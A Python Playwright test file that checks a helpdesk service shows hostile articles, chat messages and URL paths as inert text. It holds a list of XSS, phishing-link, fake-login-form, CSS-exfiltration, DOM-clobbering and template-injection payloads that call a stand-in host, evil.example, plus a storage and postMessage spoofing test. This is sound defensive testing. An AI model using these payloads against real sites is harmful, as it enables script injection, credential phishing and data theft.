"""Hostile articles and messages: everything is shown as words, nothing runs, nothing leaves for another host."""

from __future__ import annotations

import re
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, Page, expect

from ingest.report import LineReport
from ingest.sync import sync
from kb.bootstrap import open_knowledge
from kb.settings import KnowledgeSettings
from tests.support.browser import Helpdesk, become, picture, sign_in, visit
from tests.support.service import Service

pytestmark = pytest.mark.browser
EVIL = "//evil.example"
HOSTILE = [
    "<script>window.pwned=1;fetch('https:" + EVIL + "/a')</script>",
    f"<img src=https:{EVIL}/b.png onerror=window.pwned=2>",
    "<svg onload=window.pwned=3><animate onbegin=window.pwned=3 attributeName=x dur=1s></svg>",
    f"<iframe srcdoc='<script>parent.pwned=4</script>' src=https:{EVIL}/c></iframe>",
    "<details open ontoggle=window.pwned=5>open</details>",
    "[click me](javascript:window.pwned=6)",
    "[click me](  JaVaScRiPt&colon;window.pwned=7)",
    "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[reset your password here](https://lindqvist.example.evil.example/login)",
    "[reset your password here](https://lindqvist.example@evil.example/login)",
    f"![logo](https:{EVIL}/d.png?leak=everything)",
    f"![logo][ref]\n\n[ref]: https:{EVIL}/e.png 'x'",
    f"<https:{EVIL}/f>",
    f"<style>@import url(https:{EVIL}/g.css); body{{background:url(https:{EVIL}/h.png)}}</style>",
    f"<link rel=stylesheet href=https:{EVIL}/i.css><base href=https:{EVIL}/><meta http-equiv=refresh content='0;url=https:{EVIL}/j'>",
    f"<form action=https:{EVIL}/k><input name=password placeholder='Your password'><button>Sign in</button></form>",
    f"<video poster=https:{EVIL}/l.png src=https:{EVIL}/l.mp4></video><object data=https:{EVIL}/m></object><embed src=https:{EVIL}/n>",
    '"><a id=document name=cookie href=//evil.example onmouseover=window.pwned=8 style=position:fixed;inset:0>everything</a>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=window.pwned=9&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=window.pwned=10>'>",
    "{{constructor.constructor('window.pwned=11')()}} ${window.pwned=12} <%= pwned %>",
    "\u202egnp.evil\u202c \u2066<b>isolated\u2069 \x00 \ufeff",
]
WORDS = ["<script>window.pwned=1", "<svg onload=window.pwned=3>", "reset your password here", "constructor.constructor"]
SEEN = """() => {
  const all = [];
  const walk = (root) => { for (const node of root.querySelectorAll('*')) { all.push(node); if (node.shadowRoot) walk(node.shadowRoot); } };
  walk(document);
  const active = new Set(['script', 'style', 'link', 'iframe', 'object', 'embed', 'video', 'audio', 'base', 'form', 'input', 'math', 'svg', 'details',
                          'img', 'animate', 'meta', 'noscript', 'template']);
  const told = new Set(['title', 'aria-label', 'value', 'placeholder', 'alt', 'datetime']);
  const hostile = (text) => /evil\\.example|pwned/.test(text);
  const shown = (node) => node.closest('[role=log], .prose, .words, .evidence') !== null && !node.closest('.icon');
  const attributes = all.flatMap((node) => [...node.attributes].map(({ name, value }) => ({ node: node.localName, name, value })));
  return {
    pwned: window.pwned ?? null,
    elements: all.filter((node) => active.has(node.localName) && (shown(node) || (node.localName !== 'details' && hostile(node.textContent))))
      .map((node) => node.outerHTML.slice(0, 200)),
    attributes: attributes.filter(({ name, value }) => name.startsWith('on')
      || (!told.has(name) && !value.startsWith('mailto:') && hostile(value))),
    links: all.filter((node) => node.localName === 'a').map((node) => node.href),
    clobbered: all.filter((node) => ['document', 'cookie'].includes(node.id)).length,
  };
}"""


@pytest.fixture(scope="module")
def hostile_article(one_desk: Service, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """An article that somebody has filled with everything hostile, by its id; it is withdrawn again at the end."""
    file = tmp_path_factory.mktemp("hostile") / "osprey.md"
    steps = "\n".join(f"{number}. Step {number} of the Osprey scanner: {text}" for number, text in enumerate(HOSTILE, 1)).replace("\0", "")
    file.write_text(
        "---\nid: hostile-osprey\n"
        "title: Calibrate the Osprey scanner <script>window.pwned=20</script><img src=x onerror=window.pwned=21>\n"
        'owner: "lab@lindqvist.example?x=<img src=x onerror=window.pwned=22>"\n'
        "audience: [everyone]\nplatforms: []\nreview_by: 2027-05-31\ntags: [scanner]\n---\n"
        f"How to calibrate the Osprey scanner.\n\n## Calibrate the Osprey scanner <img src=x onerror=window.pwned=23>\n\n{steps}\n",
        encoding="utf-8",
    )
    take_in(one_desk, file.parent)
    yield "hostile-osprey"
    file.unlink()
    take_in(one_desk, file.parent)


def take_in(service: Service, folder: Path) -> None:
    """Synchronise a folder beside the running service."""
    settings = KnowledgeSettings(home=service.home)
    opened = open_knowledge(settings)
    try:
        assert not sync(folder, opened, settings, LineReport(lambda _: None)).failures
    finally:
        opened.close()


def check_inert(page: Page) -> None:
    """Check that nothing on the page is alive that came from hostile text."""
    page.wait_for_timeout(300)
    seen = page.evaluate(SEEN)
    assert seen["pwned"] is None
    assert seen["elements"] == []
    assert seen["attributes"] == []
    assert seen["clobbered"] == 0
    for link in seen["links"]:
        parts = urlsplit(link)
        assert parts.scheme in ("http", "https", "mailto", ""), link
        assert not parts.netloc or parts.netloc == urlsplit(page.url).netloc or parts.netloc.endswith("lindqvist.example"), link


def test_a_hostile_article_is_shown_as_words_wherever_it_appears(browser: Browser, desk: Service, hostile_article: str) -> None:
    with visit(browser, desk) as (page, watch):
        help_desk = Helpdesk(page)
        answer = help_desk.ask("How do I calibrate the Osprey scanner?")
        expect(answer.get_by_role("heading", name="Sources")).to_be_visible()
        for words in WORDS:
            expect(answer).to_contain_text(words)
        answer.get_by_role("button", name="Calibrate the Osprey scanner").last.click()
        expect(answer.get_by_role("group", name="Quoted from")).to_be_visible()
        picture(page, "hostile-article-desktop-light")
        check_inert(page)
        help_desk.press("Yes, solved")
        for path in (f"/articles/{hostile_article}", "/articles", "/articles?category=%3Cscript%3Ewindow.pwned=30%3C/script%3E"):
            page.goto(path)
            check_inert(page)
        page.goto(f"/articles/{hostile_article}")
        expect(page.get_by_role("article")).to_contain_text("window.pwned=1")
        picture(page, "hostile-article-page-desktop-light", full_page=True)
        assert [url for url in watch.requests if "evil" in url] == []


def test_hostile_messages_are_shown_as_words_to_the_person_the_agent_and_the_author(browser: Browser, desk: Service) -> None:
    with visit(browser, desk) as (page, watch):
        become(page, "Jonas Weber")
        help_desk = Helpdesk(page)
        help_desk.ask(f"The flux capacitor {HOSTILE[0]} is broken")
        with desk.client("jonas.weber") as jonas:
            conversation = jonas.get("/v1/conversations").json()[0]["conversation"]
            for text in HOSTILE:
                assert jonas.post(f"/v1/conversations/{conversation}/messages", json={"text": f"The flux capacitor says: {text}"}).status_code == 200
        expect(help_desk.replies).to_have_count(len(HOSTILE) + 1)
        assert help_desk.log.locator("[data-state]").count() == len(HOSTILE) + 1
        for text in (HOSTILE[0], HOSTILE[5], HOSTILE[17]):
            expect(help_desk.log.get_by_text(f"The flux capacitor says: {text}", exact=True)).to_have_count(1)
        check_inert(page)
        page.reload()
        expect(help_desk.replies).to_have_count(len(HOSTILE) + 1)
        check_inert(page)
        picture(page, "hostile-messages-desktop-light")
        before = help_desk.replies.count()
        help_desk.panel.get_by_role("banner").or_(help_desk.panel).get_by_role("button", name="Talk to a person").first.click()
        expect(help_desk.replies).to_have_count(before + 1)

        sign_in(page, "Sam Oduya")
        check_inert(page)
        page.get_by_role("link", name="flux capacitor").first.click()
        expect(page.get_by_role("heading", level=1)).to_contain_text("flux capacitor")
        expect(page.get_by_role("main")).to_contain_text("<svg onload=window.pwned=3>")
        check_inert(page)
        picture(page, "hostile-ticket-desktop-light")
        for person in ("priya.nair", "emma.lundgren", "wei.zhang", "claire.whitfield", "daniel.ortega"):  # fewer are not quoted
            with desk.client(person) as asker:
                talk = asker.post("/v1/conversations", json={"text": f"The flux capacitor {HOSTILE[0]} is broken"}).json()["conversation"]
                asker.post(f"/v1/conversations/{talk}/messages", json={"choice": "file"}).raise_for_status()
        sign_in(page, "Elin Berg")
        page.goto("/console/gaps")
        expect(page.get_by_role("main")).to_contain_text(re.compile("flux capacitor", re.IGNORECASE))
        check_inert(page)
        picture(page, "hostile-gap-report-desktop-light")
        assert [url for url in watch.requests if "evil" in url] == []


def test_what_stands_in_an_address_is_not_run_either(browser: Browser, desk: Service) -> None:
    attack = "<img src=x onerror=window.pwned=40><script>window.pwned=41</script>"
    with visit(browser, desk, expected=("404", "401", "422")) as (page, _):
        for path in (
            f"/articles/{attack}",
            f"/{attack}",
            f"/?person={attack}#{attack}",
            f"/console/sign-in?error={attack}",
            f"/articles?category={attack}",
        ):
            page.goto(path)
            check_inert(page)


def test_the_widget_takes_no_orders_from_other_windows_or_from_the_storage_of_the_page(browser: Browser, desk: Service) -> None:
    """A message from another window is dropped, and what a script left in the storage leads to nobody else's conversation."""
    with desk.client("jonas.weber") as jonas:
        theirs = jonas.post("/v1/conversations", json={"text": "hello, this is only for Jonas"}).json()["conversation"]
    with visit(browser, desk, "/docs") as (page, _):
        stored = f'{{"conversation": "{theirs}", "lastEvent": 0, "device": null, "outbox": []}}'
        page.evaluate("value => sessionStorage.setItem('firstline:maria.santos', value)", stored)
        page.goto("/")
        page.evaluate("postMessage({type: 'identify', jwt: 'x.y.z', token: 'x.y.z', person: 'ingrid.lindqvist'}, '*')")
        help_desk = Helpdesk(page)
        expect(help_desk.log).to_contain_text("The earlier conversation has ended.")
        help_desk.ask("hello")
        assert "only for Jonas" not in help_desk.panel.inner_text()
        with desk.client("maria.santos") as maria:
            assert maria.get("/v1/conversations").json()[0]["conversation"] != theirs
